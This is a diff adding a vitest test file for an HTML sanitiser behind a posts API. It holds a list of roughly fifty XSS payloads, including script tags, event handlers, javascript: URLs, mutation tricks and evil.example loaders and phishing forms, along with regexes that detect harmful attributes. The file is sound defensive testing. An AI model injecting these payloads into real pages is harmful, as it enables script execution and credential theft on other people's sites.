@@ -1,0 +1,170 @@
+import { describe, expect, test } from 'vitest';
+import { readData, readRefusal, succeeded } from '../../../testing/answers.ts';
+import { useTestApp } from '../../../testing/test-app.ts';
+import { postHtml } from './post-html.ts';
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" />',
+  '<img src=`x` onerror=alert(1)//',
+  '<img/src="x"/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" &#1; javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<img src="//evil.example/x.png">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="//www.youtube.com.evil.example/embed/x"></iframe>',
+  '<object data="x.swf"></object>',
+  '<embed src="x.swf">',
+  '<form action="https://evil.example"><input name=password><button>x</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<body onload=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<p style="position:fixed;top:0;background:url(https://evil.example)">x</p>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<p id="root" class="fixed inset-0" data-x="y">x</p>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<input autofocus onfocus=alert(1)>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<template><script>alert(1)</script></template>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<p>"><img src=x onerror=alert(1)></p>',
+];
+
+const tag =
+  /^<\/?(?:h[2-4]|p|br|hr|ul|ol|li|blockquote|pre|code|strong|b|em|i|u|s|sub|sup|a|img|figure|figcaption|iframe|table|thead|tbody|tr|th|td)(?=[\s/>])/;
+const harm = [
+  /\son\w+\s*=/i,
+  /\s(?:style|class|id|srcdoc|formaction|data-\w+)\s*=/i,
+  /(?:href|src)="\s*(?:\w*script:|data:|\/\/|https:\/\/(?!www\.youtube(?:-nocookie)?\.com\/))/i,
+];
+
+/** Checks each tag alone, because text and titles may contain anything. */
+function expectHarmless(html: string): void {
+  for (const found of html.match(/<(?:"[^"]*"|[^>"])*>?/g) ?? []) {
+    expect(found).toMatch(tag);
+    const names = found.replace(/"[^"]*"/g, '""');
+    for (const pattern of harm)
+      expect(`${names} ${found.match(/(?:href|src)="[^"]*"/g)}`).not.toMatch(pattern);
+  }
+}
+
+test.each(attacks)('makes %j harmless', (html) => {
+  const clean = postHtml(`<p>Before</p>${html}`);
+  expectHarmless(clean);
+  // A second run changes nothing
+  expect(postHtml(clean)).toBe(clean);
+});
+
+test('the check of this file notices harmful tags', () => {
+  for (const html of ['<p onclick="x">', '<a href="javascript:x">', '<svg>', '<img src="//x">', '<!-- -->']) {
+    expect(() => expectHarmless(html)).toThrow();
+  }
+});
+
+test.each([
+  '<h2>Title</h2><p>Text with <strong>bold</strong>, <em>italic</em> and <u>underlined</u>.</p>',
+  '<ul><li>One</li><li>Two</li></ul><ol><li>Three</li></ol>',
+  '<ol start="4"><li>Four</li></ol><ol type="a"><li>Five</li></ol>',
+  '<blockquote><p>Said</p></blockquote>',
+  '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
+  '<p>Fish &amp; chips, 1 &lt; 2</p>',
+])('keeps %j', (html) => expect(postHtml(html)).toBe(html));
+
+test('words of blocks that are not allowed stay apart', () => {
+  expect(
+    postHtml(
+      '<section><h5>Day</h5><div>Monday</div><div>9 <span>to</span> 4</div></section><dl><dt>Fee<dd>Free</dl>',
+    ),
+  ).toBe('Day Monday 9 to 4 Fee Free');
+});
+
+test('links stay, and the opened page gets no opener', () => {
+  expect(postHtml('<a href="https://example.org" target="_blank">x</a>')).toBe(
+    '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
+  );
+  for (const href of ['/programs/1', 'mailto:office@example.org', 'tel:+256700000000']) {
+    expect(postHtml(`<a href="${href}">x</a>`)).toContain(`href="${href}"`);
+  }
+});
+
+test('images and players of the video host stay', () => {
+  expect(postHtml('<img src="/uploads/a.webp" alt="A">')).toContain('src="/uploads/a.webp" alt="A"');
+  const player = postHtml('<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk"></iframe>');
+  expect(player).toContain('src="https://www.youtube-nocookie.com/embed/abcdefghijk"');
+  // Pages only allow frames of the host without cookies
+  expect(postHtml(player.replace('-nocookie', ''))).toBe(player);
+});
+
+describe('over REST', () => {
+  const t = useTestApp();
+
+  test('stored content is sanitised, on create and on change', async () => {
+    const body = { title: 'T', content: `<p>Fine</p>${attacks.join('')}` };
+    const created = await readData(t.office.api.posts.create({ body }));
+    const changed = await readData(t.office.api.posts.update({ params: { id: created.id }, body }));
+    const rows = await t.sql<{ content: string }>('select content from posts');
+    for (const content of [created.content, changed.content, rows[0]?.content ?? '']) {
+      expect(content).toContain('<p>Fine</p>');
+      expectHarmless(content);
+    }
+  });
+
+  test('content that is empty after sanitising is refused as missing', async () => {
+    for (const content of ['<script>alert(1)</script>', '<iframe src="https://evil.example"></iframe>']) {
+      expect(await readRefusal(t.office.api.posts.create({ body: { title: 'T', content } }))).toMatchObject({
+        status: 400,
+        details: [{ path: 'content', message: 'This is required' }],
+      });
+    }
+  });
+
+  test('the search ignores tags', async () => {
+    await t.given.post({ title: 'Found', content: '<p>Graduates in <strong>gowns</strong></p>' });
+    const total = async (q: string) =>
+      (await succeeded(t.visitor.api.posts.list({ query: { q } }))).body.meta.total;
+    expect([await total('gowns'), await total('strong')]).toEqual([1, 0]);
+    // The office's search has an index even for two letters
+    const inOffice = async (q: string) => (await t.office.admin.posts.list.query({ q })).total;
+    expect([await inOffice('gowns'), await inOffice('Ow'), await inOffice('<s')]).toEqual([1, 1, 0]);
+  });
+
+  test('an excerpt keeps the words of lists, cells and lines apart', async () => {
+    const content =
+      '<ul><li>Bread</li><li>Cake</li></ul><table><tbody><tr><th>Time</th><td>9:00</td></tr></tbody></table><p>One<br>Two</p><p>Three</p>';
+    const { id } = await t.given.post({ title: 'Blocks', content });
+    const listed = await readData(t.visitor.api.posts.summaries({ query: { q: 'Blocks' } }));
+    expect(listed).toEqual([expect.objectContaining({ id, excerpt: 'Bread Cake Time 9:00 One Two Three' })]);
+  });
+
+  test("the office's list has the beginning of a text instead of the whole", async () => {
+    const { id } = await t.given.post({ title: 'Long', content: `<p>${'word <b>x</b> '.repeat(500)}</p>` });
+    const [item] = (await t.office.admin.posts.list.query({ q: 'Long', limit: 1 })).items;
+    expect(item).toMatchObject({ id, title: 'Long', status: 'published' });
+    expect(item?.excerpt).toMatch(/^(word x ){20}/);
+    expect(JSON.stringify(item).length).toBeLessThan(1000);
+  });
+});
